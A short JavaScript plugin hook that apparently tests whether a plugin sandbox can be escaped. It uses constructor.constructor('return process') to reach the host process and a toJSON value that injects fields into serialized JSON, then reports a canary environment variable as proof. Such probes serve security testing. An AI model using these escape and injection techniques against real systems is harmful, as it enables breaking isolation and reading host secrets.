// toJSON runs when an argument is written, and may add to what stands around it.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const seen = [];
    const value = {
      toJSON() {
        seen.push(this, new Error('here').stack);
        return '","name":"log","call":0,"x":"';
      },
    };
    for (const act of [
      () => ctx.storage.set('k', value),
      () => ctx.emit('a:b', value),
      () => ctx.webhooks.send('x', value),
    ])
      try {
        await act();
      } catch (error) {
        look(error);
      }
    for (const each of seen) look(each);
    return { metadata: verdict() };
  },
};
